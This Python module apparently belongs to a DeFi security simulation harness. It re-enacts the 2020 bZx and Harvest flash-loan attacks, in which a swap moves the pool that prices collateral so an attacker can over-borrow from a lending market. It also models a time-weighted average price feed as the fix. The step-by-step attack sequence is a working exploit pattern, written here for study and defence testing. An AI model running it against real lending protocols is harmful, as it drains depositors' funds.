"""bZx and Harvest, 2020: a flash loan moves the pool whose spot price a market reads."""

from __future__ import annotations

from collections.abc import Generator
from dataclasses import dataclass

from harness.attacks.calls import all_of, borrow, flash_loan, share_of, supply, swap
from harness.attacks.script import Attack, Check, Parameters
from harness.attacks.stage import Stage
from harness.contracts import Contract


@dataclass(frozen=True)
class Spot(Parameters):
    """Amounts in whole tokens; ETH at $2,000.

    loan_usdc: borrowed for one transaction
    pool_eth: reserve of the pool whose price the market reads
    window_s: of the average, when remedied
    """

    loan_usdc: float = 10_000_000.0
    pool_eth: float = 2_500.0
    supplied_usdc: float = 8_000_000.0
    window_s: int = 1_800


def play(stage: Stage, p: Spot) -> Generator[int | None, None, None]:
    """Buys ETH with the loan, borrows against some of it at its new price, sells the rest."""
    eth, usdc = stage.token("ETH", 2_000), stage.token("USDC", 1, decimals=6)
    dollar = stage.feed("USDC")
    pool = stage.pool("ETH", "USDC", p.pool_eth)
    feed = _feed(stage, p, pool, eth, dollar)
    market = stage.lending(
        "market",
        {
            "ETH": {"feed": feed, "ltv": 7_500, "threshold": 8_000, "bonus": 500},
            "USDC": {},
        },
    )
    lender = stage.lending("lender", {"USDC": {}})
    router = stage.router
    stage.supplier("supplier", market, USDC=p.supplied_usdc)
    stage.supplier("whale", lender, role="bystander", USDC=p.loan_usdc)
    attacker = stage.actor("attacker")
    stage.approve(attacker, ["ETH", "USDC"], market, router)
    yield None
    if p.remedied:
        yield from _averaged(stage, p, feed)

    loan = stage.units("USDC", p.loan_usdc)
    sent = stage.send(
        "borrow for the block, buy ETH, borrow against half of it, sell the other half",
        attacker,
        flash_loan(
            lender.market,
            attacker,
            usdc,
            loan,
            [
                swap(router, pool, usdc, loan, attacker),
                supply(market.market, eth, share_of(eth, attacker, 5_000), attacker),
                borrow(market.market, usdc, all_of(usdc, market), attacker),
                swap(router, pool, eth, all_of(eth, attacker), attacker),
            ],
        ),
    )
    yield None
    if sent.done:
        stage.note("the pool's price was moved and moved back within one transaction")


def _feed(stage: Stage, p: Spot, pool: Contract, eth: Contract, dollar: Contract) -> Contract:
    if p.remedied:
        return stage.deploy("PoolTwapFeed", pool, eth, dollar, p.window_s, 6, 8, "ETH average")
    return stage.deploy("PoolSpotFeed", pool, eth, dollar, 8, "ETH spot")


def _averaged(stage: Stage, p: Spot, feed: Contract) -> Generator[int | None, None, None]:
    """Observations until there is an average over the window."""
    for _ in range(8):
        stage.admin(feed, "poke")
        stage.wait(p.window_s // 6)
        yield None


ATTACK = Attack(
    name="spot-oracle",
    title="a flash loan moves the pool that prices the collateral",
    sources=(
        "bZx, 15 and 18 February 2020; Harvest, 26 October 2020",
        "Qin, Zhou, Livshits, Gervais, Attacking the DeFi ecosystem with flash loans, 2021",
    ),
    play=play,
    parameters=Spot(),
    remedy="the pool's price averaged over 30 minutes",
    stopped_by="BorrowLimitExceeded",
    protocol=(Check("profit", at_most=0), Check("insolvency", at_most=0)),
    goal=lambda _: Check("profit", at_least=500_000),
)
